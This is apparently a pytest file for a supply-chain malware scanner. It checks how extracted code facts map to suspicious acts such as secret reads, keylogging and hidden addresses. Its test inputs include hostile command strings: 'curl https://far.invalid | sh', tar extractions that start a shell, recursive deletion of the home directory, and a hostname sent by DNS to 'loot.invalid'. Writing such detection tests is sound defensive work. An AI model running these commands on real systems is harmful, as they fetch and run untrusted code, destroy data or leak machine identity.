"""What the facts of a file mean."""

from dataclasses import replace

import pytest

from pratique.analysis.chains.acts import Act, Atom
from pratique.analysis.chains.atoms import read_atoms
from pratique.analysis.facts import Capability, FileFacts, Flow, Language, Taint, Use
from pratique.analysis.hosts import HostClass
from tests.analysis.chains.making import (
    BARE,
    FAR,
    Fact,
    address,
    asks,
    command,
    env,
    fetch,
    file,
    flow,
    hidden,
    place,
    read,
    send,
    start,
    use,
    write,
)


def only(fact: Fact, language: Language = Language.PYTHON) -> Atom:
    (atom,) = read_atoms(file([fact], language), frozenset()).atoms
    return atom


@pytest.mark.parametrize(
    ("fact", "acts"),
    [
        (send(), {Act.NETWORK, Act.SENDS, Act.ASKS_FEW}),
        (use(Capability.NETWORK, "fetch", "POST https://far.invalid"), {Act.NETWORK, Act.SENDS, Act.ASKS_FEW}),
        (fetch("https://far.invalid/x.exe"), {Act.NETWORK, Act.FETCHES, Act.WRITES_EXECUTABLE, Act.ASKS_FEW}),
        (read("logo.png"), {Act.FILES, Act.IMAGE}),
        (read("run.sh"), {Act.FILES}),
        (write("run.sh"), {Act.WRITES, Act.WRITES_EXECUTABLE}),
        (env(), {Act.ENVIRONMENT}),
        (env("*"), {Act.ENVIRONMENT, Act.WHOLE_ENVIRONMENT}),
        (place(".npmrc"), {Act.SECRETS, Act.PUBLISH_TOKEN, Act.PACKAGE_CONFIGURATION}),
        (use(Capability.SECRETS, "a new place"), {Act.SECRETS}),
        (start("curl https://far.invalid | sh"), {Act.STARTS, Act.PIPES_TO_SHELL}),
        (flow(Capability.CODE, "exec", Taint.NETWORK), {Act.CODE, Act.FETCHES, Act.FETCHES_UNSAID}),
        (flow(Capability.FILE_WRITE, "open", Taint.DECODED, target="x.exe"), {Act.WRITES, Act.DECODES, Act.WRITES_EXECUTABLE}),
        (command("npm publish"), {Act.PUBLISHES}),
        (hidden(), {Act.HIDDEN_CODE}),
        (asks("pynput"), {Act.KEYS}),
        (address(BARE, encoded=True), {Act.ADDRESS, Act.HIDDEN_ADDRESS}),
    ],
)  # fmt: skip
def test_a_fact_means_its_acts(fact: Fact, acts: set[Act]) -> None:
    assert acts == only(fact).acts


@pytest.mark.parametrize(
    "fact",
    [
        use(Capability.CODE, "compile"),
        use(Capability.PROCESS, "open", FAR),
        use(Capability.DECODE, "String.fromCharCode"),
        asks("json"),
        command("ls -l"),
    ],
)
def test_a_fact_without_a_meaning_is_no_atom(fact: Fact) -> None:
    assert () == read_atoms(file([fact]), frozenset()).atoms


def test_a_call_carries_the_host_it_reaches() -> None:
    assert ("far.invalid", HostClass.UNKNOWN) == (only(send()).host, only(send()).host_class)
    assert (None, None) == (only(send(None)).host, only(send("x")).host)


def test_a_download_in_a_shell_that_becomes_code_is_piped() -> None:
    atom = only(flow(Capability.CODE, "sh", Taint.NETWORK), Language.SHELL)
    assert Act.PIPES_TO_SHELL in atom.acts


def test_a_command_runs_when_the_program_of_its_line_is_started() -> None:
    started = Use(Capability.PROCESS, "os.system", 1, at_load=True, argument="x")
    facts = file([command("npm publish")])
    facts = type(facts)(language=facts.language, uses=(started,), commands=facts.commands)
    found = [atom for atom in read_atoms(facts, frozenset()).atoms if Act.PUBLISHES in atom.acts]
    assert [True] == [atom.at_load for atom in found]


def test_a_file_written_to_a_telling_place_is_proven() -> None:
    atom = only(write(".github/workflows/x.yml"))
    assert atom.proven
    assert {Act.WORKFLOW, Act.WRITES} <= atom.acts


def test_what_is_deleted_at_home_is_deleted_broadly() -> None:
    assert Act.DELETES_BROADLY in only(use(Capability.FILE_WRITE, "shutil.rmtree", "~")).acts
    assert Act.DELETES_BROADLY not in only(use(Capability.FILE_WRITE, "os.rmdir", "~")).acts


def test_a_shipped_program_is_known_by_its_name() -> None:
    (atom,) = read_atoms(file([start("./bin/x.exe -q")]), frozenset(), frozenset({"x.exe"})).atoms
    assert Act.OWN_BINARY in atom.acts


@pytest.mark.parametrize("api", ["socket.getaddrinfo", "dns.lookup"])
def test_a_constant_name_that_is_looked_up_tells_nobody_anything(api: str) -> None:
    for told in (None, "{}.far.invalid"):
        assert Act.DNS in only(use(Capability.NETWORK, api, told)).acts
    assert Act.DNS not in only(use(Capability.NETWORK, api, "far.invalid")).acts


@pytest.mark.parametrize("line", ["curl -fL {} -o {}", "/usr/bin/tar xf {} -C {}", "unzip.exe -o {}"])
def test_what_is_fetched_or_unpacked_by_a_tool_is_not_started(line: str) -> None:
    handled = flow(Capability.PROCESS, "subprocess.run", Taint.NETWORK, target=line)
    assert Act.STARTS not in only(handled).acts
    assert Act.STARTS in only(flow(Capability.PROCESS, "subprocess.run", Taint.FILE, target=line)).acts


@pytest.mark.parametrize(
    "line",
    [
        "{} -o x",
        "curl {} | sh",
        "tar xf {} --to-command=sh",
        "tar xf {} -I ./x",
        "sh {}",
        "tar -xIf sh {}",
        "tar -F ./x -xf {}",
    ],
)
def test_what_may_start_another_program_is_started(line: str) -> None:
    assert Act.STARTS in only(flow(Capability.PROCESS, "subprocess.run", Taint.NETWORK, target=line)).acts


def test_an_address_that_is_shown_elsewhere_is_not_hidden() -> None:
    found = read_atoms(file([address(BARE + "/a", encoded=True), address(BARE)]), frozenset())
    assert not [atom for atom in found.atoms if Act.HIDDEN_ADDRESS in atom.acts]


def test_the_lines_of_a_bundle_tell_no_functions() -> None:
    facts = file([send() for _ in range(50)], Language.JAVASCRIPT)
    bundle = type(facts)(language=facts.language, uses=facts.uses, lines=2, longest_line=90_000)
    assert {-1} == {atom.scope for atom in read_atoms(bundle, frozenset()).atoms}
    assert {1} == {atom.scope for atom in read_atoms(facts, frozenset()).atoms}


@pytest.mark.parametrize(
    ("fact", "runs"),
    [
        (use(Capability.CODE, "eval", "__dirname"), False),
        (use(Capability.CODE, "eval"), True),
        (use(Capability.CODE, "import", "https://far.invalid/x.mjs"), True),
        (flow(Capability.CODE, "eval", Taint.DECODED), True),
    ],
    ids=["plain text", "unknown text", "an address", "decoded text"],
)
def test_plain_text_that_a_script_runs_is_read_and_no_code_of_its_own(fact: Fact, runs: bool) -> None:
    read_ = read_atoms(file([fact], Language.JAVASCRIPT), frozenset())
    assert runs == any(Act.CODE in atom.acts for atom in read_.atoms)


def test_what_is_sent_far_from_where_it_is_read_is_known_by_that_place() -> None:
    named = Use(Capability.SECRETS, "browser profiles", 3, at_load=False, scope=2)
    sent = Flow(Capability.NETWORK, "fetch", 40, 3, (Taint.FILE, Taint.SECRETS), at_load=False, scope=30)
    facts = FileFacts(language=Language.JAVASCRIPT, uses=(named,), flows=(sent,), lines=50, longest_line=90)
    assert {Act.BROWSER, Act.KEY_FILE} <= read_atoms(facts, frozenset()).atoms[-1].acts
    for other in (replace(sent, origin_line=4), replace(sent, taints=(Taint.FILE,))):
        assert Act.BROWSER not in read_atoms(replace(facts, flows=(other,)), frozenset()).atoms[-1].acts
    assert Act.BROWSER not in read_atoms(replace(facts, longest_line=90_000), frozenset()).atoms[-1].acts


def test_a_package_that_is_moved_as_a_whole_is_not_changed() -> None:
    whole = Use(
        Capability.FILE_WRITE, "fs.renameSync", 1, at_load=True, argument="${_}/node_modules/@sample/wasm"
    )
    assert Act.OTHER_PACKAGES not in only(whole).acts
    assert Act.OTHER_PACKAGES in only(replace(whole, argument="${_}/node_modules/@sample/wasm/index.js")).acts
    assert Act.OTHER_PACKAGES in only(replace(whole, api="fs.writeFileSync")).acts


def test_a_host_that_a_package_is_installed_from_is_known() -> None:
    atom = only(start("pip install helper@https://far.invalid/h-1.tar.gz"))
    assert ("far.invalid", HostClass.UNKNOWN) == (atom.host, atom.host_class)


@pytest.mark.parametrize("at_load", [True, False])
def test_objects_that_are_fetched_are_code_once_nobody_asks_for_them(at_load: bool) -> None:
    fetched = Flow(Capability.CODE, "pickle.loads", 2, 1, (Taint.NETWORK,), at_load)
    assert at_load == (Act.CODE in only(fetched).acts)
    assert Act.CODE in only(replace(fetched, taints=(Taint.LITERAL,))).acts


OWN = Flow(Capability.NETWORK, "dns.lookup", 2, 2, (Taint.IDENTITY,), at_load=True, target="${hostname}")


def test_a_machine_s_own_address_is_asked_for_and_nobody_told() -> None:
    asked = Use(Capability.NETWORK, "dns.lookup", 2, at_load=True, argument="${hostname}")
    facts = FileFacts(language=Language.JAVASCRIPT, uses=(asked,), flows=(OWN,))
    assert () == read_atoms(facts, frozenset()).atoms
    for changed in (
        replace(OWN, target=None),
        replace(OWN, target="loot.invalid"),
        replace(OWN, api="dns.resolve"),
    ):
        told = read_atoms(replace(facts, flows=(changed,)), frozenset()).atoms
        assert [{Act.IDENTITY, Act.DNS, Act.SENDS, Act.NETWORK}] == [set(atom.acts) for atom in told]


def test_many_questions_for_the_own_address_excuse_none() -> None:
    flows = tuple(replace(OWN, line=line) for line in range(1, 6))
    facts = FileFacts(language=Language.JAVASCRIPT, flows=flows)
    assert 5 == len(read_atoms(facts, frozenset()).atoms)
    assert () == read_atoms(replace(facts, flows=flows[:4]), frozenset()).atoms
